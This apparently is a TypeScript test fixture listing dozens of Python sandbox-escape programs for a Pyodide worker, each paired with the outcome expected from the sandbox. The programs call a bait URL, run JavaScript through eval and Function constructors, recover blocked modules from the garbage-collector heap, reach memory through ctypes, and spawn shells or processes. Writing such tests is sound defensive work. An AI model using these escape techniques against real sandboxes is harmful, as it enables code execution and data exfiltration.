/** Ways out through modules: to the page's JavaScript, to the network, to memory, to other processes. */
import { type Attack, BAIT, FIND, f } from './attack.ts';

/** The page's own powers, one program each: every one of them would leave something that a test can see. */
const PAGE: readonly Attack[] = [
  ['fetches', `js.fetch('${BAIT}')`],
  ['asks synchronously', `x = js.XMLHttpRequest.new()\nx.open('GET', '${BAIT}', False)\nx.send()`],
  ['opens a web socket', `js.WebSocket.new('${BAIT}'.replace('http', 'ws'))`],
  ['listens to a server', `js.EventSource.new('${BAIT}')`],
  ['sends a beacon', `js.navigator.sendBeacon('${BAIT}', 'x')`],
  ['loads a picture', `js.Image.new().src = '${BAIT}'`],
  ['imports a script', `js.importScripts('${BAIT}')`],
  ['starts a worker', `js.Worker.new('${BAIT}')`],
  ['evaluates a script', `js.eval("fetch('${BAIT}')")`],
  ['makes a function of text', `js.Function.new("return fetch('${BAIT}')")()`],
  ['sets a timer with text', `js.setTimeout("fetch('${BAIT}')", 0)`],
  ['answers in the name of the worker', "js.postMessage('forged')"],
  ['writes to the page', "js.parent.postMessage('forged', '*')"],
  ['writes to every tab', "js.BroadcastChannel.new('kelvin').postMessage('forged')"],
  ['opens a database', "js.indexedDB.open('stolen')"],
  ['writes to the storage', "js.localStorage.setItem('stolen', '1')"],
  ['opens a cache', "js.caches.open('stolen')"],
  ['sets a cookie', "js.document.cookie = 'stolen=1'"],
].map(([name, body]) => ({
  name: `js: ${name}`,
  program: f(`import js\n${body}\nreturn 1`),
  strict: 'forbidden',
  unfiltered: 'error',
  bare: 'error',
}));

/** Every one imports inside `f`, so without the allow-list it is the missing `__import__` that stops it. */
const REFUSED = { strict: 'forbidden', unfiltered: 'error' } as const;
const SHUT = { ...REFUSED, bare: 'error' } as const;

export const IMPORTS: readonly Attack[] = [
  ...PAGE,
  {
    name: 'names of js taken one by one',
    program: f(`from js import fetch, XMLHttpRequest\nreturn fetch('${BAIT}')`),
    ...SHUT,
  },
  { name: 'an import before f', program: 'import js\ndef f():\n return 1', ...SHUT },
  { name: '__import__ by its name', program: f("return __import__('js')"), ...SHUT },
  { name: 'importlib', program: f("import importlib\nreturn importlib.import_module('js')"), ...SHUT },
  {
    name: 'a shut module taken from the list and asked for again',
    program: f("import sys\nsys.modules.pop('js')\nimport js\nreturn 1"),
    ...SHUT,
  },
  {
    name: 'all shut modules taken from the list',
    program: f(
      `import sys
for name in [name for name, module in sys.modules.items() if module is None]:
 del sys.modules[name]
import pyodide_js
return pyodide_js.constructor.constructor("return fetch('${BAIT}')")()`,
    ),
    ...SHUT,
  },
  {
    name: 'the constructor of a function of JavaScript',
    program: f(`import pyodide_js\nreturn pyodide_js.constructor.constructor("return fetch('${BAIT}')")()`),
    ...SHUT,
  },
  {
    name: 'run_js',
    program: f(`from pyodide.code import run_js\nreturn run_js("fetch('${BAIT}')")`),
    ...SHUT,
  },
  {
    name: 'a package from elsewhere',
    program: f(`import pyodide_js\nreturn pyodide_js.loadPackage('${BAIT}x.whl')`),
    ...SHUT,
  },
  {
    name: "Pyodide's own download",
    program: f(`from pyodide.http import open_url\nreturn open_url('${BAIT}').read()`),
    ...SHUT,
  },
  {
    // The same module under another name, from its file in the archive of the standard library.
    name: "Pyodide's sources run by hand",
    program: f(
      `import sys
for path in sys.path:
 try:
  exec(open(path + '/pyodide/code.py').read(), {'__name__': 'pyodide.code', '__package__': 'pyodide'})
 except OSError:
  pass
import _pyodide._core_docs as core
return core.run_js("fetch('${BAIT}')")`,
    ),
    ...SHUT,
  },
  {
    name: 'a built-in module made anew',
    program: f(
      `import _imp, sys
from importlib.machinery import ModuleSpec
for name in ('_pyodide_core', 'js', '_socket', '_ctypes'):
 sys.modules.pop(name, None)
 try:
  module = _imp.create_builtin(ModuleSpec(name, None))
  _imp.exec_builtin(module)
  if name == '_ctypes':
   return module.dlopen(None, 0)
  return module.create_proxy(f).constructor.constructor("return fetch('${BAIT}')")()
 except ImportError:
  pass
raise ImportError`,
    ),
    ...SHUT,
  },
  {
    name: 'an object of JavaScript found among all objects',
    program: f(
      `${FIND}
objects = gc.get_objects()
kinds = list(map(type, objects))
for kind in set(kinds):
 if 'Js' in kind.__name__:
  try:
   x = objects[kinds.index(kind)]
   return str(x.constructor.constructor("return fetch('${BAIT}')")())
  except Exception:
   pass
raise LookupError`,
    ),
    ...SHUT,
  },
  {
    name: 'what _pyodide_core left in the heap',
    program: f(
      `${FIND}
for x in every(dict):
 for name in ('run_js', 'create_proxy'):
  try:
   made = x[name]("fetch('${BAIT}')")
   return str(made.constructor.constructor("return fetch('${BAIT}')")())
  except Exception:
   pass
raise LookupError`,
    ),
    ...SHUT,
  },
  {
    name: 'the finder of js put back',
    program: f(
      `${FIND}
import sys
for x in every(type):
 if 'JsFinder' in x.__name__:
  sys.meta_path.insert(0, x())
sys.modules.pop('js', None)
import js
return js.fetch('${BAIT}')`,
    ),
    ...SHUT,
  },
  {
    name: 'the finder of js itself',
    program: f(
      `${FIND}
import sys
for x in gc.get_objects():
 if type(x).__name__ == 'JsFinder':
  sys.meta_path.insert(0, x)
  for name, module in x.jsproxies.items():
   sys.modules.pop(name, None)
   __import__(name)
   return str(module.constructor.constructor("return fetch('${BAIT}')")())
raise LookupError`,
    ),
    ...SHUT,
  },
  {
    name: 'urllib',
    program: f(`import urllib.request\nreturn urllib.request.urlopen('${BAIT}').status`),
    ...SHUT,
  },
  {
    name: 'http.client',
    program: f(
      `import http.client\nc = http.client.HTTPConnection('${BAIT}'[7:-1])\nc.request('GET', '/')\nreturn 1`,
    ),
    ...SHUT,
  },
  {
    name: 'a socket',
    program: f(
      `import socket\nhost, port = '${BAIT}'[7:-1].split(':')\nsocket.create_connection((host, int(port)))\nreturn 1`,
    ),
    ...SHUT,
  },
  { name: 'ctypes', program: f('import ctypes\nreturn ctypes.string_at(0, 16)[0]'), ...SHUT },
  {
    name: '_ctypes after taking it from the list',
    program: f("import sys\nsys.modules.pop('_ctypes')\nimport _ctypes\nreturn _ctypes.dlopen(None, 0)"),
    ...SHUT,
  },
  { name: 'a shell', program: f("import os\nreturn os.system('echo')"), ...REFUSED },
  {
    name: 'a process',
    program: f("import subprocess\nsubprocess.run(['true'])\nreturn 1"),
    ...SHUT,
  },
  { name: 'a fork', program: f('import os\nreturn os.fork()'), ...SHUT },
  {
    name: 'another program in this one’s place',
    program: f("import os\nos.execv('/bin/sh', ['sh'])"),
    ...SHUT,
  },
  { name: 'a browser', program: f(`import webbrowser\nwebbrowser.open('${BAIT}')\nreturn 1`), ...SHUT },
  {
    name: 'a connection on an event loop',
    program: f(`import asyncio\nasyncio.run(asyncio.open_connection('127.0.0.1', 80))\nreturn 1`),
    ...SHUT,
  },
  {
    name: 'a coroutine left to the event loop of the page',
    program: f(
      `import asyncio
async def later():
 while True: pass
asyncio.ensure_future(later())
return 1`,
    ),
    ...SHUT,
  },
];
